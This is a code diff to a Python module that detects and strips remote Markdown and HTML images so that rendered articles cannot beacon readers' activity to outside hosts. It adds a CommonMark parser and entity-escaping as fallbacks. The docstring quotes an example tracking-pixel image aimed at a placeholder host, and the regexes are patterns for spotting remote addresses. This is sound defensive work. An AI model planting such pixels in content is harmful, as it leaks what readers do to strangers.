@@ -5,11 +5,17 @@ such as `![x](http://host/pixel.png?read=passport-taken)` would be fetched the m
 article opens and tell a stranger who read what. Publishing refuses such images
 (app/content/schemas.py) and the app strips any that reach it anyway (queries.py), so the
 renderer never sees an address with a scheme (http:, https:, file:, data: …) or a host.
+
+Markdown has many ways to write an image (escapes, entities, nested brackets, reference
+definitions inside quotes or lists), so images are found by a CommonMark parser, not by
+patterns alone; when a tampered text still holds one after the patterns, every "!" is
+turned into an entity, and without a literal "!" no renderer can draw an image at all.
 """
 
 from __future__ import annotations
 
 import re
+from functools import cache
 
 _ELSEWHERE = re.compile(r"\s*<?\s*(?:[a-zA-Z][a-zA-Z0-9+.-]*:|//|\\\\)")
 _INLINE = re.compile(r"!\[([^\]]*)\]\(([^)]*)\)")
@@ -23,15 +29,35 @@ def _remote_labels(markdown: str) -> set[str]:
     return {m.group(1).strip().casefold() for m in _DEFINITION.finditer(markdown) if _ELSEWHERE.match(m.group(2))}
 
 
+@cache
+def _parser():
+    from markdown_it import MarkdownIt  # only when a text is checked, not at start-up
+
+    parser = MarkdownIt("commonmark")
+    parser.validateLink = lambda url: True  # see file: and every other scheme, as a renderer might
+    return parser
+
+
+def _parsed_images(markdown: str) -> list[str]:
+    """The address of every image a CommonMark parser finds, after it decoded escapes and entities."""
+    found = []
+    for token in _parser().parse(markdown):
+        for child in token.children or []:
+            if child.type == "image":
+                found.append(str(child.attrGet("src") or ""))
+    return found
+
+
 def remote_images(markdown: str) -> list[str]:
-    """Every image in `markdown` that would load from the network, as written."""
+    """Every image in `markdown` that would load from the network, as written (or as parsed)."""
     remote = _remote_labels(markdown)
     found = [m.group(0) for m in _INLINE.finditer(markdown) if _ELSEWHERE.match(m.group(2))]
     found += [m.group(0) for m in _REFERENCE.finditer(markdown)
               if (m.group(2) or m.group(1)).strip().casefold() in remote]
     found += [m.group(0) for m in _SHORTCUT.finditer(markdown) if m.group(1).strip().casefold() in remote]
     found += [m.group(0) for m in _HTML_IMAGE.finditer(markdown)]
-    return found
+    found += [src for src in _parsed_images(markdown) if _ELSEWHERE.match(src)]
+    return list(dict.fromkeys(found))
 
 
 def without_remote_images(markdown: str) -> str:
@@ -41,4 +67,7 @@ def without_remote_images(markdown: str) -> str:
     text = _REFERENCE.sub(
         lambda m: m.group(1) if (m.group(2) or m.group(1)).strip().casefold() in remote else m.group(0), text)
     text = _SHORTCUT.sub(lambda m: m.group(1) if m.group(1).strip().casefold() in remote else m.group(0), text)
-    return _HTML_IMAGE.sub("", text)
+    text = _HTML_IMAGE.sub("", text)
+    if remote_images(text):
+        text = text.replace("!", "&#33;")
+    return text
